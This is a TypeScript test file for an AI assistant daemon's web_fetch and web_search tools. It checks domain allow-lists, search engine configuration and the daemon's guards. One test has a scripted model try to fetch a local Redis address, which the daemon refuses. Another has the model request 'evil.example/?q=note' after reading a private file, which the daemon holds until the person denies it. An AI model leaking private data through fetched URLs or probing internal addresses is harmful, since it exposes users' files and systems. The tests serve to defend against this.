// The web through the daemon: a message, a model that asks for a page, and what becomes of it.
import { expect, onTestFinished, test } from 'vitest';
import { configSchema } from '../../config/schema.ts';
import { GatehouseError } from '../core/errors.ts';
import { tempDir, until } from '../testing/fakes.ts';
import { type Script, scriptedModel } from '../testing/scripted-model.ts';
import { TestChannel } from '../testing/test-channel.ts';
import { testDaemon } from '../testing/test-daemon.ts';
import { webPeer } from '../testing/web-peer.ts';
import type { DaemonOptions } from './daemon.ts';

const GATEWAY = { owner: [{ channel: 'test', chat_id: 'chat-1', sender_ids: ['user-1'] }] };
const fetches = (url: string) => ({ toolCalls: [{ name: 'web_fetch', arguments: { url } }] });

async function scene(script: Script, sections: Record<string, unknown> = {}, daemon: Partial<DaemonOptions> = {}) {
  const dir = await tempDir();
  onTestFinished(() => dir[Symbol.asyncDispose]());
  const peer = await webPeer((_, response) => {
    response.writeHead(200, { 'content-type': 'text/html' });
    response.end('<title>News</title><p>Rain is <b>coming</b>.</p>');
  });
  onTestFinished(() => peer[Symbol.asyncDispose]());
  const channel = new TestChannel('test');
  channel.files.set('f', new TextEncoder().encode('a private note'));
  const model = scriptedModel(script);
  const { connector } = peer;
  const rig = await testDaemon({
    dataDir: dir.path,
    model,
    channel,
    gateway: GATEWAY,
    sections,
    daemon: { connector, ...daemon },
  });
  return {
    ...{ ...rig, model, peer },
    told: () => model.requests.at(-1)?.messages.findLast(({ role }) => role === 'tool')?.content,
    [Symbol.asyncDispose]: () => rig[Symbol.asyncDispose](),
  };
}

test('the owner asks for a page, the model reads it, and the answer comes', async () => {
  await using at = await scene([fetches('http://news.example/today'), 'It will rain.']);
  await at.channel.deliver({ platformId: 'm1', text: 'what is new?' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()).toEqual(['It will rain.']);
  expect(at.told()).toContain('Rain is **coming**.');
  expect(at.peer.seen).toMatchObject([{ host: 'news.example', url: '/today' }]);
});

test('A14 an address of this machine is refused, whatever the model asks for', async () => {
  await using at = await scene([fetches('http://127.0.0.1:6379/'), 'no']);
  await at.channel.deliver({ platformId: 'm1', text: 'look' });
  await at.daemon.gateway.idle();
  expect(at.told()).toContain('this address is not fetched');
  expect(at.peer.dialled).toEqual([]);
});

test('the domains of the config hold, and a change of them holds at once', async () => {
  const web = { web_fetch: { allow_domains: ['docs.example'] } };
  await using at = await scene(
    (request) => {
      const { role, content } = request.messages.at(-1) ?? {};
      return role === 'tool' ? (String(content).split('\n')[0] ?? '') : fetches('http://news.example/');
    },
    { web },
  );
  await at.channel.deliver({ platformId: 'm1', text: 'look' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()).toEqual([expect.stringContaining('the operator allows some domains only')]);
  const channels = [{ type: 'test', allowed_senders: ['user-1', '*'] }];
  const changed = configSchema.parse({
    gateway: { channels, ...GATEWAY },
    web: { web_fetch: { allow_domains: ['news.example'] } },
  });
  expect(await at.daemon.reload(changed, new AbortController().signal)).toEqual([
    expect.objectContaining({ key: 'web.web_fetch.allow_domains', cost: 'live' }),
  ]);
  await at.channel.deliver({ platformId: 'm2', text: 'look again' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()[1]).toContain('Fetched from http://news.example/');
});

test('A31 once private and foreign things were read, a page is fetched after a yes only: its address can carry them out', async () => {
  await using at = await scene((request) =>
    request.messages.at(-1)?.role === 'tool' ? 'done' : fetches('http://evil.example/?q=note'),
  );
  await at.channel.deliver({ platformId: 'm1', text: 'see', media: [{ kind: 'document', ref: 'f', name: 'note.txt' }] });
  const question = await until('the person is asked', () => at.channel.texts().find((text) => text.includes('evil.example')));
  expect(question).toContain('web_fetch');
  expect(at.peer.dialled).toEqual([]);
  const [, code] = /\/deny ([A-Z2-9]{6})/.exec(question) ?? [];
  await at.channel.deliver({ platformId: 'm2', text: `/deny ${code}` });
  await until('the turn ends', () => at.channel.texts().includes('done'));
  expect(at.peer.dialled).toEqual([]);
});

test('a member has it only where the config says so', async () => {
  await using at = await scene(['hello']);
  await at.channel.deliver({ platformId: 'm1', senderId: 'user-2', chatId: 'chat-2', text: 'hi' });
  await at.daemon.gateway.idle();
  expect(at.model.requests[0]?.tools.map(({ name }) => name)).not.toContain('web_fetch');
});

test('the owner searches with the engine of the config, whose key is that of the environment', async () => {
  const web = { web_search: { brave: { api_key_env: 'BRAVE_API_KEY', base_url: 'http://search.lan:8080/res/v1' } } };
  await using at = await scene([{ toolCalls: [{ name: 'web_search', arguments: { query: 'rain' } }] }, 'found'], { web });
  await at.channel.deliver({ platformId: 'm1', text: 'search' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()).toEqual(['found']);
  expect(at.peer.seen).toMatchObject([{ host: 'search.lan:8080', headers: { 'x-subscription-token': 'BRAVE_API_KEY' } }]);
});

test('DuckDuckGo searches without a key', async () => {
  const web = { web_search: { duckduckgo: { base_url: 'http://search.lan:8080' } } };
  await using at = await scene([{ toolCalls: [{ name: 'web_search', arguments: { query: 'rain & wind' } }] }, 'found'], { web });
  await at.channel.deliver({ platformId: 'm1', text: 'search' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()).toEqual(['found']);
  expect(at.peer.seen).toMatchObject([{ host: 'search.lan:8080', url: '/html/?q=rain+%26+wind' }]);
});

test('without an engine in the config, there is no web_search', async () => {
  await using at = await scene(['hello']);
  await at.channel.deliver({ platformId: 'm1', text: 'hi' });
  await at.daemon.gateway.idle();
  expect(at.model.requests[0]?.tools.map(({ name }) => name)).toContain('web_fetch');
  expect(at.model.requests[0]?.tools.map(({ name }) => name)).not.toContain('web_search');
});

test('an engine whose key is not set is left out with a warning, and the daemon runs', async () => {
  const secret = (name: string) => {
    throw new GatehouseError('GH1103', `environment variable ${name} is not set`);
  };
  await using at = await scene(['hello'], { web: { web_search: { exa: { api_key_env: 'EXA_API_KEY' } } } }, { secret });
  await at.channel.deliver({ platformId: 'm1', text: 'hi' });
  await at.daemon.gateway.idle();
  expect(at.channel.texts()).toEqual(['hello']);
  expect(at.model.requests[0]?.tools.map(({ name }) => name)).not.toContain('web_search');
  expect(at.logger.lines).toContainEqual(
    expect.objectContaining({ event: 'search.no-key', data: expect.objectContaining({ code: 'GH1103', engine: 'exa' }) }),
  );
});
